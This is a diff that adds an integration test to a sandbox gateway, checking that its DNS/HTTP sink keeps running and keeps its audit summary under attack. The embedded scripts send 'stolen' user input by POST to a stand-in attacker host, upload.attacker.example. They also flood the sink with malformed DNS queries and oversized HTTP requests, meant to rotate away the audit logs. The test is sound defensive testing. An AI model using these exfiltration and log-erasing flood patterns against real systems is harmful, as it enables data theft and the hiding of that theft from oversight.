@@ -233,3 +233,163 @@ def test_what_the_ingress_refused_outlives_its_container_until_down_volumes(gate
         assert not any("knock" in r for r in audit(gateway, result.name)["ingress_refused"])
     finally:
         down(gateway, result.name, volumes=True)
+
+
+# A front-end's own attempts, made as its user with `docker exec`: what the
+# flood after it must not erase.
+FIRST = """
+import socket, urllib.request
+socket.gethostbyname("first-lookup.attacker.example")  # one A query
+try:
+    urllib.request.urlopen(urllib.request.Request("http://upload.attacker.example/steal",
+                           data=b"what the user typed, stolen"), timeout=5)
+except OSError:
+    pass  # the sink reads it and closes: no answer ever comes
+"""
+
+# Then a flood, straight to the sink (DNS) and to outside addresses (the sink
+# takes those): queries cut short before their class, random bytes, tens of
+# thousands of long names; connections with `Content-Length: ²` and with
+# oversized headers. Halfway through, a real attempt, retried until its
+# lookup is answered (the flood may fill the sink's queue).
+FLOOD_AND_ERASE = """
+import os, socket, struct, sys, time
+sink = sys.argv[1]
+
+def query(name):
+    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\x00"
+    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!HH", 1, 1)
+
+made = 0
+def connection(request):
+    global made
+    try:
+        with socket.create_connection(("203.0.113.20", 80), timeout=10) as s:
+            made += 1
+            s.sendall(request)
+    except OSError:
+        pass
+
+udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+def dns_flood(count):
+    for n in range(count):
+        udp.sendto(query(f"{n:06}" + ".long" * 45), (sink, 53))
+        if n % 10 == 0:
+            udp.sendto(query(f"cut{n}.example")[:-2], (sink, 53))
+            udp.sendto(os.urandom(40), (sink, 53))
+
+def http_flood(count):
+    for n in range(count):
+        if n % 2:
+            connection(b"POST /flood HTTP/1.1\\r\\nHost: flood.example\\r\\nContent-Length: \\xb2\\r\\n\\r\\nx")
+        else:
+            connection(b"GET /big HTTP/1.1\\r\\nHost: flood.example\\r\\nX-Big: " + b"y" * 60000 + b"\\r\\n\\r\\n")
+
+dns_flood(15000)
+http_flood(300)
+deadline = time.monotonic() + 120
+while True:
+    try:
+        address = socket.getaddrinfo("during-the-flood.attacker.example", 80, socket.AF_INET)[0][4][0]
+        break
+    except OSError:
+        assert time.monotonic() < deadline, "the lookup was never answered"
+with socket.create_connection((address, 80), timeout=10) as s:
+    s.sendall(b"GET /during HTTP/1.1\\r\\nHost: during-the-flood.attacker.example\\r\\n\\r\\n")
+    s.recv(1)
+dns_flood(15000)
+http_flood(300)
+print("flooded", made)
+"""
+
+# The sink's detail files turn over at this many bytes in this test only (the
+# launcher never sets it): at 8 MiB the flood takes many minutes to turn them
+# over at the sink's quarter of a CPU; the summary does not depend on it.
+SHRUNK_FILE_BYTES = 16 * 1024
+
+
+def test_a_flood_of_malformed_and_oversized_attempts_neither_stops_the_sink_nor_erases_the_audit(
+        gateway, docker_client, tmp_path, monkeypatch):
+    """Tried as an attacker would: a front-end looked up a name and POSTed a
+    body to an outside address (both recorded), then flooded the sink with
+    oversized requests and long names; both rotation files turned over and
+    `sandbox audit` no longer showed the lookup or the POST. A DNS query
+    without a class field stopped the sink (it restarted in a loop), and
+    `Content-Length: ²` left a connection unrecorded."""
+    import dataclasses
+    import importlib.util
+
+    import launcher.commands.prepare
+    from launcher.commands.audit import KEPT_BYTES
+    from tests.integration.conftest import ROOT
+    spec = importlib.util.spec_from_file_location("sink", ROOT / "images" / "dns-sink" / "sink.py")
+    sink = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(sink)
+    build_spec = launcher.commands.prepare.build_spec
+
+    def shrunk(*args, **kwargs):
+        made = build_spec(*args, **kwargs)
+        return dataclasses.replace(made, containers=tuple(
+            dataclasses.replace(c, env=c.env + (("SANDBOX_SINK_AUDIT_FILE_BYTES", str(SHRUNK_FILE_BYTES)),))
+            if c.part == "dns" else c for c in made.containers))
+    monkeypatch.setattr(launcher.commands.prepare, "build_spec", shrunk)
+    result = up(gateway, write_policy(tmp_path, audit="connections"), ca_bundle=ca_bundle())
+    try:
+        frontend = docker_client.containers.get(f"sandbox-{result.name}-frontend")
+        sink_container = docker_client.containers.get(f"sandbox-{result.name}-dns")
+        sink_address = gateway.addresses(sink_container.name)[f"sandbox-{result.name}-internal"]
+        run = frontend.exec_run(["python3", "-c", FIRST])
+        assert run.exit_code == 0, run.output.decode()[-2000:]
+
+        def upload(report: dict) -> dict | None:
+            return next((d for d in report["destinations"] if d["name"] == "upload.attacker.example"), None)
+        wait_for(lambda: upload(audit(gateway, result.name)))
+        run = frontend.exec_run(["python3", "-c", FLOOD_AND_ERASE, sink_address])
+        assert run.exit_code == 0 and b"flooded" in run.output, run.output.decode()[-2000:]
+        connections_made = int(run.output.decode().split()[-1])
+
+        def names(report: dict) -> dict:
+            return {n["name"]: n for n in report["names"]}
+        def flooded(report: dict) -> dict | None:
+            return next((d for d in report["destinations"] if d["address"] == "203.0.113.20"), None)
+
+        def all_taken(report: dict) -> bool:  # the sink has read and recorded every connection the flood made
+            return (flooded(report) or {}).get("count") == connections_made
+        report = wait_for(lambda: "during-the-flood.attacker.example" in names(r := audit(gateway, result.name))
+                          and all_taken(r) and r, seconds=300)
+        # The flood did what it did before: every detail record of the first lookup and the POST turned over.
+        assert "first-lookup.attacker.example" not in {e["name"] for e in report["lookups"]}
+        assert not any(c["name"] == "upload.attacker.example" for c in report["connections"])
+        # The summary still has them, with exact counts, the POST with its body.
+        first = names(report)["first-lookup.attacker.example"]
+        assert first["count"] == 1 and first["parts"] == ["frontend"]
+        stolen = upload(report)
+        assert stolen["count"] == 1 and stolen["bodies"] == ["what the user typed, stolen"]
+        assert stolen["said"] == ["POST http://upload.attacker.example/steal (27 B body)"]
+        during = next(d for d in report["destinations"] if d["name"] == "during-the-flood.attacker.example")
+        assert during["said"] == ["GET http://during-the-flood.attacker.example/during (0 B body)"]
+        # Every malformed query and connection was recorded, none stopped the sink.
+        assert names(report)["(malformed)"]["count"] > 0  # as many as the sink's queue did not drop
+        # (and all_taken above: every connection, half of them with `Content-Length: ²`, counted)
+        sink_container.reload()
+        assert sink_container.attrs["RestartCount"] == 0 and sink_container.status == "running"
+        # Past its rate, the front-end's detail records were counted, not written, and the audit says so.
+        assert report["dropped"]["frontend"] > 0
+        text = runner.invoke(app, ["audit", result.name]).stdout
+        assert "first-lookup.attacker.example: no such name" not in text  # it was answered, by the sink
+        assert "    1x  first-lookup.attacker.example -> the sink (198.1" in text
+        assert "body: what the user typed, stolen" in text and "detail record(s) not written" in text
+        as_json = json.loads(runner.invoke(app, ["audit", result.name, "--json"]).stdout)
+        assert as_json["dropped"]["frontend"] >= report["dropped"]["frontend"]
+        # The volume stayed within its bounds: each file, and all of them.
+        sizes = dict(line.rsplit(" ", 1) for line in sink_container.exec_run(
+            ["find", "/audit", "-type", "f", "-printf", "%f %s\\n"]).output.decode().splitlines())
+        sizes = {file: int(size) for file, size in sizes.items()}
+        assert {"lookups.jsonl", "lookups.1.jsonl", "connections.jsonl", "connections.1.jsonl",
+                "summary.json", "counts.json"} <= set(sizes)
+        assert all(size <= SHRUNK_FILE_BYTES for file, size in sizes.items() if file.endswith(".jsonl"))
+        assert sizes["summary.json"] <= sink.SUMMARY_BYTES
+        volume_bound = 4 * 8 * 1024 * 1024 + 2 * sink.SUMMARY_BYTES + 2 * 4096 + KEPT_BYTES
+        assert sum(sizes.values()) <= volume_bound
+    finally:
+        down(gateway, result.name, volumes=True)
